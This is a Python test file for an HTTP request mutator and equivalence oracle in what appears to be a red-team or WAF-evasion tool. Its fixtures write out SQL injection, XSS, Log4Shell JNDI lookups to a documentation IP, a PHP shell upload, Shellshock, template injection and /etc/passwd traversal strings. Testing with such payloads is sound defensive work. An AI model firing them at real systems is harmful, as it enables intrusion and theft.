"""Requests are proved the same by taking both apart."""

from __future__ import annotations

from collections import Counter
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.events.simulate import simulate
from overproof.redteam.base import Edited, mutated
from overproof.redteam.mutate.http import MUTATORS
from overproof.redteam.oracle.http import judge

MULTIPART = (
    '--B7\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>alert(1)</script>\r\n--B7\r\n'
    'Content-Disposition: form-data; name="f"; filename="x.php"\r\nContent-Type: text/plain\r\n\r\n<?=`id`?>\r\n'
    "--B7--\r\n"
)
REQUESTS = [
    "HTTP GET /a?id=1' or '1'='1 host=www.example.com",
    "HTTP GET /",
    'HTTP POST /login host=www.example.com ua="curl/8.5.0" body=user=admin\'--&password=x',
    'HTTP POST /api host=api.example.com body={"a": "x\' union select 1--", "b": [1, {"c": null}]}',
    f"HTTP POST /upload host=www.example.com cookie=sid=1 body={MULTIPART}",
    f"HTTP POST /upload body={MULTIPART}".replace("\r\n", "\n"),
    'HTTP GET /a ua="${jndi:ldap://203.0.113.9/a}" referer=https://www.example.com/x',
    "HTTP GET /a cookie=sid=1; q=<svg onload=alert(1)>; theme=dark",
    "HTTP GET /a headers=x-api-version: ${jndi:ldap://203.0.113.9/a}",
    "HTTP GET /a?next=http://203.0.113.9/?a=1&b=2 src=192.0.2.1",
    "HTTP GET /a?q=salt & pepper; or 1=1&page=2",
    "HTTP GET /search/{{7*7}} host=www.example.com",
    "HTTP POST /x body=<?xml version='1.0'?><a>&b;</a>",
    "HTTP GET /a?b[x]=1&b[y]=2&c=3",
    "HTTP GET /cgi-bin/../../etc/passwd host=www.example.com",
]
PROVED_AT_LEAST = 0.97


def _chains(requests: list[str], chains: int, longest: int) -> Counter[str]:
    random = Random(14)
    pairs = []
    for request in requests * chains:
        edited = Edited(request)
        for _ in range(random.randint(1, longest)):
            edited = mutated(edited, MUTATORS, random) or edited
        pairs.append((request, edited.text))
    return Counter(proof.meaning for proof in judge(pairs))


def test_chains_of_edits_are_proved_and_never_ask_for_something_else() -> None:
    meanings = _chains(REQUESTS, chains=30, longest=6)
    assert meanings["changed"] == 0
    assert meanings["proved"] >= PROVED_AT_LEAST * meanings.total()


def test_chains_of_edits_of_simulated_requests() -> None:
    texts = [text for text in simulate(1500, seed=14).train["text"].to_pylist() if text.startswith("HTTP ")]
    meanings = _chains(texts[:300], chains=1, longest=4)
    assert meanings["changed"] == 0
    assert meanings["proved"] >= PROVED_AT_LEAST * meanings.total() > 200


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("GET /a", "POST /a"),
        ("GET /a", "GET /b"),
        ("GET /a", "GET /garden/a"),
        ("GET /a", "GET /a/"),
        ("GET /a host=x", "GET /a host=y"),
        ("GET /a?b=1", "GET /a"),
        ("GET /a?b=1", "GET /a?b=2"),
        ("GET /a?b=1", "GET /a?b=1&b=2"),
        ("GET /a?b=1", "GET /a?b=%31"),  # its text is decoded already
        ("GET /a?b=1", "GET /a?b=1&c=<script>"),
        ("GET /a?b=1&b=2", "GET /a?b=2&b=1"),
        ("GET /a?b=http://x/?c=1&d=2", "GET /a?d=2&b=http://x/?c=1"),
        ('GET / ua="() { :;}; id"', 'GET / ua="curl/8.5.0"'),
        ('GET / ua="a/1"', "GET /"),
        ("GET / cookie=a=1", "GET / cookie=a=2"),
        ("GET / cookie=a=1", "GET / cookie=garden=summer"),
        ("GET / cookie=a=1", "GET /"),
        ("GET / referer=https://x/'or 1", "GET / referer=https://x/garden"),
        ("GET / headers=x: ${a}", "GET / headers=x: ${b}"),
        ("GET / headers=x: ${a}", "GET / headers=X: ${a}"),
        ("POST / body=a=1", "POST / body=a=2"),
        ("POST / body=a=1", "POST /"),
        ("POST / body=<a>", "POST / body=<b>"),
        ('POST / body={"a": 1}', 'POST / body={"a": 1.0}'),
        ('POST / body={"a": 1}', 'POST / body={"a": 1, "b": {"c": 2}}'),
        ('POST / body={"a": 1}', "POST / body=a=1"),
        ('POST / body={"a": "b"}', 'POST / body={"a": "\\u0063"}'),
        (f"POST / body={MULTIPART}", f"POST / body={MULTIPART}".replace("alert(1)", "alert(2)")),
        (f"POST / body={MULTIPART}", f"POST / body={MULTIPART}".replace("x.php", "x.txt")),
        (f"POST / body={MULTIPART}", f"POST / body={MULTIPART}".replace("--B7--", "--B8--")),
    ],
)
def test_another_request_is_seen(original: str, edited: str) -> None:
    assert judge([(f"HTTP {original}", f"HTTP {edited}")])[0].meaning == "changed"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("garden", "garden"),
        ("HTTP ", "HTTP "),
        ("HTTP GET /../etc/passwd", "HTTP GET /garden/../../etc/passwd"),
        ('HTTP POST / body={"a": 1, "a": 2}', 'HTTP POST / body={"a": 2, "a": 2}'),
        (f"HTTP POST / body={MULTIPART[:-8]}", f"HTTP POST / body={MULTIPART}"),
    ],
)
def test_what_hangs_on_the_reader_is_unproved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "unproved"


@given(st.text(), st.text())
def test_any_two_texts_are_judged(first: str, second: str) -> None:
    starts = ("", "HTTP GET /?", "HTTP POST / body=", 'HTTP POST / body={"a":', "HTTP POST / body=--B\n")
    assert len(judge([(start + first, start + second) for start in starts])) == len(starts)
